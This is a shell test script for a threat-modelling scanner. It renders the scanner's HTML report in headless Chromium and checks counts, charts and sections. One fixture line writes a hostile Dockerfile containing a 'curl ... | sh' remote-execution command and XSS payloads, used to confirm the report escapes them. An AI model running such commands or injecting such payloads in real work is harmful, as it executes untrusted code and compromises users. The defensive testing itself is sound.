#!/bin/sh
# The HTML report in a real browser: headless Chromium (Debian's `chromium`
# package; .ci/run installs it, this test installs nothing and skips without
# it) loads the page of the fixture project, must log no console message (a
# script error or a blocked external load would), and the rendered DOM must
# show the counts the JSON report gives, both charts and the four questions.
set -u
src=${TMDK_SRCDIR:-.}
build=${TMDK_BUILDDIR:-.}
scan="$build/examples/tmdk-scan"
fx="$src/tests/fixtures/scan"
chromium=
for c in /usr/bin/chromium /usr/bin/chromium-browser; do
	[ -x "$c" ] && { chromium=$c; break; }
done
if [ -z "$chromium" ]; then
	echo "SKIP: Chromium is not installed (apt-get install chromium); the HTML report was not rendered"
	exit 77
fi
[ -x "$scan" ] || { echo "SKIP: $scan is not built"; exit 77; }
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
. "$src/tests/tool-wrapper.sh"
scan=$(wrap_tool "$scan" "$tmp")
pass=0 fail=0
ok() { pass=$((pass + 1)); echo "ok - $1"; }
ko() { fail=$((fail + 1)); echo "FAIL - $1"; }

# --unparseable error: broken/bad.yaml is an error card (by default it is a skipped
# file). project/app and project/deploy are separate units, so the fixture's
# cross-folder info finding does not exist: 4 findings, 3 open risks.
"$scan" --no-builtin -c "$fx/catalog.yaml" --unparseable error -f html -o "$tmp/report.html" "$fx/project" "$fx/broken" 2> /dev/null
[ -s "$tmp/report.html" ] && ok "report written" || ko "report written"

# A page of hostile text must not run anything either.
printf 'FROM node:latest\nRUN curl -s https://x/i.sh | sh # </pre><script>alert(1)</script><img src=x onerror=alert(2)>\n' > "$tmp/Dockerfile"
"$scan" --no-builtin -c "$fx/catalog.yaml" -f html -o "$tmp/hostile.html" "$tmp/Dockerfile" 2> /dev/null

render() { # render HTML_FILE: the DOM on stdout, Chromium's log in $1.log
	profile=$(mktemp -d "$tmp/profile.XXXXXX")
	if command -v timeout > /dev/null 2>&1; then T="timeout 120"; else T=; fi
	$T "$chromium" --headless --no-sandbox --disable-gpu --disable-quic --no-first-run \
		--disable-background-networking --disable-component-update --disable-sync \
		--user-data-dir="$profile" --enable-logging=stderr --v=0 --dump-dom "file://$1" 2> "$1.log"
}

render "$tmp/report.html" > "$tmp/dom.html"
if grep -q '</html>' "$tmp/dom.html"; then ok "Chromium rendered the page"; else ko "Chromium rendered the page"; sed -n '1,20p' "$tmp/report.html.log"; fi
if grep -q ':CONSOLE' "$tmp/report.html.log"; then ko "the page logs console messages"; grep ':CONSOLE' "$tmp/report.html.log"
else ok "no console message (no script error, nothing blocked)"; fi
# count ID VALUE: the rendered number of a summary card.
count() {
	if grep -q "id=\"count-$1\" data-count=\"$2\">$2<" "$tmp/dom.html"; then ok "shows $2 $1"
	else ko "does not show $2 $1: $(grep -o "id=\"count-$1\"[^<]*" "$tmp/dom.html")"; fi
}
count findings 4
count critical 1
count high 1
count medium 2
count low 0
count info 0
count suppressed 1
count files 5
count errors 1
n=$(grep -o '<svg id="chart-' "$tmp/dom.html" | wc -l)
[ "$n" = 2 ] && ok "two charts" || ko "two charts (found $n)"
n=$(grep -o '<g class="row"' "$tmp/dom.html" | wc -l)
[ "$n" = 22 ] && ok "chart rows: 4 questions and 18 risks" || ko "chart rows ($n, expected 22)"
n=$(grep -o '<details class="risk" id="risk-' "$tmp/dom.html" | wc -l)
[ "$n" = 18 ] && ok "one collapsible section per risk" || ko "one section per risk ($n)"
n=$(grep -o '<details class="risk" id="risk-[a-z-]*" data-findings="[1-9][0-9]*" open' "$tmp/dom.html" | wc -l)
[ "$n" = 3 ] && ok "risks with findings are open" || ko "open risks ($n, expected 3)"
for q in what-are-we-building what-can-go-wrong what-are-we-going-to-do did-we-do-enough; do
	grep -q "<section id=\"$q\"" "$tmp/dom.html" && ok "question $q" || ko "question $q"
done
grep -q '<tr class="finding" data-severity="critical">' "$tmp/dom.html" && ok "finding rows" || ko "finding rows"

render "$tmp/hostile.html" > "$tmp/hostile.dom"
if grep -q ':CONSOLE' "$tmp/hostile.html.log"; then ko "hostile page logs console messages"; grep ':CONSOLE' "$tmp/hostile.html.log"
else ok "hostile text runs nothing"; fi
if grep -q '<script' "$tmp/hostile.dom" || grep -q '<img' "$tmp/hostile.dom"; then ko "hostile markup became elements"
else ok "hostile markup stays text"; fi
grep -qF '&lt;script&gt;alert(1)&lt;/script&gt;' "$tmp/hostile.dom" && ok "hostile markup shown as text" || ko "hostile markup shown as text"

echo "html: $pass passed, $fail failed"
[ "$fail" = 0 ]
